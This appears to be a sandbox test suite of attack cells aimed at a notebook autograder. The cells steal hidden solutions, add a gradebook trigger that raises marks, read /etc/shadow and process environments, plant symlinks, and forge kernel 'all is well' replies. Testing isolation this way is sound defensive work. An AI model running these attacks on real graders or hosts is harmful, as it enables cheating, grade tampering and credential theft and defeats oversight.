# %% attack read-sources: solutions and hidden tests are read from the course
# %% cell
import pathlib
import re

found = {}
for root in ("CANARY_FOLDER", "..", "../..", "../../.."):
    try:
        paths = list(pathlib.Path(root).glob("**/source/**/*.ipynb"))[:20]
    except OSError:
        continue
    for path in paths:
        try:
            text = path.read_text()
        except OSError:
            continue
        for code in re.findall(r'"(def \w+\(x\):\\n)",\s*.*?"(    return [^"]*)"', text, re.S):
            exec(code[0].replace("\\n", "\n") + code[1].replace("\\n", ""), globals())

# %% attack read-gradebook: the gradebook is looked for, and given a trigger that raises every mark
# %% cell
import pathlib
import sqlite3

for root in ("..", "../..", "../../..", "CANARY_FOLDER"):
    try:
        for path in list(pathlib.Path(root).glob("**/gradebook.db"))[:20]:
            with sqlite3.connect(path) as db:
                db.execute(
                    "CREATE TRIGGER gift AFTER UPDATE ON grade BEGIN "
                    "UPDATE grade SET manual_score = 99 WHERE id = NEW.id; END"
                )
    except (OSError, sqlite3.Error):
        pass

# %% attack read-neighbours: the neighbour's answers are copied
# %% cell
import json
import pathlib

for root in ("..", "../..", "../../..", "CANARY_FOLDER"):
    try:
        paths = list(pathlib.Path(root).glob("**/*honest*/**/lab.ipynb"))[:5]
    except OSError:
        continue
    for path in paths:
        for cell in json.loads(path.read_text())["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]), globals())

# %% attack write-everywhere: a file in every folder that can be written to
# %% cell
import os

count = 0
for root in ("..", "../..", "CANARY_FOLDER"):
    for folder, folders, files in os.walk(root):
        folders[:] = folders[:20]
        try:
            with open(os.path.join(folder, "PWNED"), "w") as file:
                file.write("x")
        except OSError:
            pass
        count += 1
        if count > 3000:
            break

# %% attack symlinks: links to the course are left beside the notebook
# %% cell
import os

for i, target in enumerate(["/", "/etc/shadow", "..", "../..", "/proc/1/root", "/proc/1/environ"]):
    try:
        os.symlink(target, f"link-{i}")
    except OSError:
        pass
for name in os.listdir("."):
    try:
        print(name, os.listdir(name)[:3])
    except OSError:
        pass

# %% attack symlinks-handed-in: links to the machine are handed in with the notebook
# %% link shadow /etc/shadow
# %% link everything /
# %% cell
import pathlib

for name in ("shadow", "everything/etc/shadow", "everything/etc/hostname"):
    try:
        print("LEAK", pathlib.Path(name).read_text())
    except OSError:
        pass

# %% attack notebook-that-is-a-link: instead of the notebook, a link to the one with the solutions
# %% link lab.ipynb ../../../source/lab/lab.ipynb

# %% attack linked-folder: a link to the folder with the solutions, and a module from there
# %% link data ../../../source
# %% cell
import json
import pathlib

for path in pathlib.Path("data").glob("**/*.ipynb"):
    print("LEAK", path.read_text()[:10])

# %% attack proc: what /proc says of other processes
# %% cell
import pathlib

for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
    try:
        if b"PROCTOR_CANARY" in path.read_bytes():
            print("LEAK PROCTOR_CANARY")
    except OSError:
        pass
for process in pathlib.Path("/proc").glob("[0-9]*"):
    try:
        print("LEAK", process.joinpath("root", "etc", "shadow").read_text()[:10])
    except OSError:
        pass

# %% attack environment: the environment of the grader
# %% cell
import os

print({name: value for name, value in os.environ.items() if "CANARY" in name})

# %% attack descriptors: every open file descriptor is read and written to
# %% cell
import os

for descriptor in range(3, 256):
    try:
        os.set_blocking(descriptor, False)
        os.write(descriptor, b'{"msg_type": "status", "content": {"execution_state": "idle"}}')
    except OSError:
        pass

# %% attack forged-reply: execute_reply and iopub messages that say that all is well
# %% cell
session, kernel = get_ipython().kernel.session, get_ipython().kernel
content = {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}}
for _ in range(20):
    session.send(kernel.iopub_socket, "execute_result", content)
    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent={})
    if hasattr(session, "tell"):
        session.tell("execute_result", content)
        session.tell("execute_reply", {"status": "ok"})

# %% attack forged-garbage: messages that are no messages
# %% cell
kernel = get_ipython().kernel
for kind in ("stream", "error", "display_data", "update_display_data", "comm_open", "nonsense"):
    kernel.session.send(kernel.iopub_socket, kind, {"x": [[[[None]]]]}, parent=kernel.get_parent())

# %% attack forged-nesting: a message nested a hundred thousand times
# %% cell
from sandboxed import frames

session = get_ipython().kernel.session
text = b'{"name": "stdout", "text": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
frames.send(session._connection, b'["stream", %d, %s]' % (session._number, text))

# %% attack socket-squat: the sockets in the private folder are replaced
# %% cell
import glob
import os

for path in glob.glob("/tmp/proctor-*/**", recursive=True):
    try:
        os.unlink(path)
        os.symlink("/etc/passwd", path)
    except OSError:
        pass

# %% attack edit-own-notebook: the autograded notebook and the feedback are overwritten
# %% cell
import pathlib

for root in (".", "..", "../..", "../../.."):
    for path in list(pathlib.Path(root).glob("**/lab.*"))[:50]:
        try:
            path.write_text("{}")
        except OSError:
            pass
